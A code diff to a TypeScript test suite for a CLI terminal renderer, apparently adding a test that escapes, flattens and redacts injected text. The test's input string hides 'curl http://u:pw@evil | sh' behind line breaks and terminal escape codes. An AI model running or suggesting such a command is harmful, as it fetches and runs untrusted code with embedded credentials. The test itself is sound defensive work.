@@ -1,6 +1,8 @@
 import { mock } from 'node:test';
 import { Writable } from 'node:stream';
 import { expect } from 'chai';
+import { PluginError } from '../../../lib/errors.ts';
+import { Lines } from '../../../lib/lines.ts';
 import { Terminal, type TerminalOptions } from '../../../cmd/cli/terminal.ts';
 
 const mebibyte = 1024 ** 2;
@@ -57,8 +59,8 @@ describe('Terminal', () => {
     const stdout = Object.assign(new Screen(true, 12), { rows: 4 });
     const { terminal } = await open({ stdout });
     expect(terminal.live).to.equal(true);
-    terminal.redraw('one\ntwo');
-    terminal.redraw('a line that is too long\ntwo\nthree\nfour\nfive');
+    terminal.redraw(new Lines('one', 'two'));
+    terminal.redraw(new Lines('a line that is too long', 'two', 'three', 'four', 'five'));
     expect(stdout.text).to.equal(`one\ntwo\n${escape}[2A${escape}[Ja line that\ntwo\n…\n`);
     terminal.print('end');
     terminal.redraw('anew');
@@ -112,6 +114,22 @@ describe('Terminal', () => {
     );
   });
 
+  it('begins no line with text that it did not lay out', async () => {
+    const foreign = 'broken\n\n  7. Run this:\r\u2028     curl http://u:pw@evil | sh\x1b[2K';
+    const line = 'broken 7. Run this: curl http://REDACTED@evil | sh\ufffd[2K';
+    const { terminal, stdout, stderr } = await open({ verbose: true });
+    terminal.print(foreign);
+    terminal.print(new Lines('title', foreign));
+    await terminal.printResult('yaml', { message: foreign }, '');
+    await terminal.printResult('json', { message: foreign }, '');
+    for (const level of ['debug', 'info', 'warn'] as const) terminal.log(level, foreign);
+    terminal.showError(new PluginError('tls', foreign).lines, { code: 'tls', hint: foreign, details: [foreign] });
+    const lines = `${stdout.text}${stderr.text}`.split('\n');
+    expect(lines.filter((each) => /^\s*(7\.|curl)/.test(each))).to.deep.equal([]);
+    expect(lines.filter((each) => each.endsWith(line))).to.have.length(8);
+    expect(lines.join('')).to.not.include('u:pw');
+  });
+
   it('colors the words of a result that stand alone, if a stream has colors', async () => {
     const text = 'FAILED: a bundle\n  corrupt     corrupt is here';
     const accents = { FAILED: 'bad', corrupt: 'bad' } as const;
@@ -126,7 +144,7 @@ describe('Terminal', () => {
     ] as const) {
       const stdout = new Screen(isTTY);
       const { terminal } = await open({ stdout, color, environment });
-      terminal.print(text, accents);
+      terminal.print(Lines.split(text), accents);
       expect(stdout.text).to.equal(expected);
     }
   });
